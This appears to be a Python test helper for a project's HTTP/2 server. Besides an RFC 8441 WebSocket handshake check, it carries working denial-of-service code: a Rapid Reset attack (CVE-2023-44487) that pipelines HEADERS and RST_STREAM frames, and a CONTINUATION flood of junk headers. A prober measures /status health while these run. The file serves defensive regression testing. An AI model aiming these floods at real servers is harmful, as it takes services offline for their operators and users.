"""Raw HTTP/2 clients for scripts/http2-check.sh, built on the Python `h2` package's HPACK and
frame layers (not on duplex's code):

  ws HOST PORT TLS                an RFC 8441 WebSocket: extended CONNECT to /ws/echo, one masked
                                  text frame, its echo, a close handshake
  (TLS: "tls" or "plain")
  rapid-reset HOST PORT TLS N C   HEADERS then RST_STREAM(CANCEL) for up to N streams, on C
                                  connections in turn (CVE-2023-44487)
  continuation HOST PORT TLS MB C one HEADERS without END_HEADERS, then CONTINUATION frames of
                                  junk headers, up to MB megabytes, on C connections in turn

The attacks run while a second thread asks GET /status over HTTP/1.1 every 50 ms on fresh
connections; each prints one JSON line: what the server did and how /status fared.
"""

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
# HEADERS + RST_STREAM pairs per write in the rapid-reset attack: more than the server's limit
# of reset streams it has not yet accepted (20).
RESET_BATCH = 64
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR",
                11: "ENHANCE_YOUR_CALM", 13: "HTTP_1_1_REQUIRED"}


def connect(host, port, tls, alpn=("h2",)):
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not tls:
        return sock
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    sock = context.wrap_socket(sock, server_hostname="localhost")
    if alpn == ("h2",) and sock.selected_alpn_protocol() != "h2":
        sys.exit(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
    return sock


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# --- RFC 8441 ---------------------------------------------------------------------------------


def ws_frame(opcode, payload):
    """A masked client frame (payload under 126 bytes)."""
    mask = os.urandom(4)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + masked


def ws(host, port, tls):
    sock = connect(host, port, tls)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    scheme = "https" if tls else "http"
    stream = None
    received = b""
    result = {"status": None, "extensions": None, "echo": None, "close_code": None}
    sent_message = False
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.RemoteSettingsChanged) and stream is None:
                # RFC 8441 §3: only after the server's SETTINGS_ENABLE_CONNECT_PROTOCOL = 1.
                enabled = conn.remote_settings.get(0x8, 0)
                result["enable_connect_protocol"] = enabled
                if not enabled:
                    sys.exit("the server did not send SETTINGS_ENABLE_CONNECT_PROTOCOL")
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, [
                    (":method", "CONNECT"), (":protocol", "websocket"), (":scheme", scheme),
                    (":path", "/ws/echo"), (":authority", "localhost"),
                    ("sec-websocket-version", "13"),
                ])
            elif isinstance(event, h2.events.ResponseReceived):
                headers = dict((k.decode(), v.decode()) for k, v in event.headers)
                result["status"] = int(headers[":status"])
                result["extensions"] = headers.get("sec-websocket-extensions")
                conn.send_data(stream, ws_frame(0x1, b"hello over RFC 8441"))
                sent_message = True
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                received += event.data
                while len(received) >= 2:
                    length = received[1] & 0x7F
                    if len(received) < 2 + length:
                        break
                    opcode, payload = received[0] & 0x0F, received[2:2 + length]
                    received = received[2 + length:]
                    if opcode == 0x1:
                        result["echo"] = payload.decode()
                        conn.send_data(stream, ws_frame(0x8, struct.pack(">H", 1000)))
                    elif opcode == 0x8:
                        result["close_code"] = struct.unpack(">H", payload[:2])[0]
            elif isinstance(event, h2.events.StreamEnded):
                conn.end_stream(stream)
        sock.sendall(conn.data_to_send())
        if result["close_code"] is not None:
            break
    sock.close()
    result["ok"] = (result["status"] == 200 and sent_message and result["close_code"] == 1000
                    and result["echo"] == "Echo: hello over RFC 8441")
    return result


# --- attacks ------------------------------------------------------------------------------------


class Prober(threading.Thread):
    """GET /status over HTTP/1.1 on a fresh connection every 50 ms until stopped."""

    def __init__(self, host, port, tls):
        super().__init__(daemon=True)
        self.host, self.port, self.tls = host, port, tls
        self.stop = threading.Event()
        self.latencies, self.failures = [], 0

    def run(self):
        while not self.stop.is_set():
            started = time.monotonic()
            try:
                sock = connect(self.host, self.port, self.tls, alpn=("http/1.1",))
                sock.settimeout(5)
                sock.sendall(b"GET /status HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                reply = b""
                while True:
                    chunk = sock.recv(4096)
                    if not chunk:
                        break
                    reply += chunk
                sock.close()
                if reply.startswith(b"HTTP/1.1 200") and reply.endswith(b'{"status":"ok"}'):
                    self.latencies.append(time.monotonic() - started)
                else:
                    self.failures += 1
            except OSError:
                self.failures += 1
            self.stop.wait(0.05)

    def summary(self):
        lat = sorted(self.latencies)
        pick = lambda q: round(lat[min(len(lat) - 1, int(q * len(lat)))] * 1000, 2) if lat else None
        return {"status_ok": len(lat), "status_failed": self.failures,
                "status_p50_ms": pick(0.5), "status_max_ms": pick(1.0)}


class Reader(threading.Thread):
    """Reads the server's frames: notes GOAWAY and the end of the connection."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.goaway = None
        self.closed = threading.Event()
        self.responses = 0

    def run(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, payload = buf[3], buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == GOAWAY and self.goaway is None:
                        code = struct.unpack(">I", payload[4:8])[0]
                        self.goaway = GOAWAY_CODES.get(code, str(code))
                    elif kind == HEADERS:
                        self.responses += 1
        except OSError:
            pass
        self.closed.set()


def open_raw(host, port, tls):
    sock = connect(host, port, tls)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    reader = Reader(sock)
    reader.start()
    return sock, reader


def attack(host, port, tls, name, unit, one, connections):
    """Runs `one` on `connections` connections in turn, each until the server ends it, while the
    prober asks for /status."""
    prober = Prober(host, port, tls)
    prober.start()
    time.sleep(0.2)
    started = time.monotonic()
    result = {"attack": name, "connections": connections, unit: 0, "goaway": {},
              "closed_by_server": 0}
    for _ in range(connections):
        sock, reader = open_raw(host, port, tls)
        progress = {"sent": 0}
        try:
            one(sock, reader, progress)
        except OSError:
            pass  # the server closed while we were sending
        reader.closed.wait(5)
        result[unit] += progress["sent"]
        if reader.goaway:
            result["goaway"][reader.goaway] = result["goaway"].get(reader.goaway, 0) + 1
        result["closed_by_server"] += reader.closed.is_set()
        sock.close()
    result["seconds"] = round(time.monotonic() - started, 3)
    time.sleep(0.3)
    prober.stop.set()
    prober.join()
    result.update(prober.summary())
    return result


def rapid_reset(host, port, tls, count, connections):
    scheme = "https" if tls else "http"

    def one(sock, reader, progress):
        encoder = hpack.Encoder()
        batch, pending = [], 0
        for i in range(count):
            if reader.closed.is_set():
                break
            stream = 1 + 2 * i
            block = encoder.encode([(":method", "GET"), (":scheme", scheme),
                                    (":path", "/status"), (":authority", "localhost")])
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                         + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
            pending += 1
            # Pairs go out RESET_BATCH at a time, as real attacks pipeline them: one pair per
            # write let a fast server accept each stream before its reset arrived, so the
            # pending-accept-reset limit tripped on some connections and not on others.
            if pending == RESET_BATCH or i == count - 1:
                sock.sendall(b"".join(batch))
                progress["sent"] += pending
                batch, pending = [], 0
    return attack(host, port, tls, "rapid-reset", "streams_sent", one, connections)


def continuation_flood(host, port, tls, megabytes, connections):
    scheme = "https" if tls else "http"
    # Literal header fields without indexing, new names: about 16 KB per frame.
    junk = b""
    n = 0
    while len(junk) < 16000:
        name, value = f"x-flood-{n}".encode(), b"v" * 100
        junk += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        n += 1
    payload = frame(CONTINUATION, 0, 1, junk)

    def one(sock, reader, progress):
        block = hpack.Encoder().encode([(":method", "GET"), (":scheme", scheme),
                                        (":path", "/status"), (":authority", "localhost")])
        sock.sendall(frame(HEADERS, END_STREAM, 1, block))  # no END_HEADERS
        while progress["sent"] < megabytes * 1024 * 1024 and not reader.closed.is_set():
            sock.sendall(payload)
            progress["sent"] += len(payload)
    return attack(host, port, tls, "continuation-flood", "bytes_sent", one, connections)


def main():
    kind, host, port, tls = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4] == "tls"
    if kind == "ws":
        result = ws(host, port, tls)
    elif kind == "rapid-reset":
        result = rapid_reset(host, port, tls, int(sys.argv[5]), int(sys.argv[6]))
    elif kind == "continuation":
        result = continuation_flood(host, port, tls, int(sys.argv[5]), int(sys.argv[6]))
    else:
        sys.exit(__doc__)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
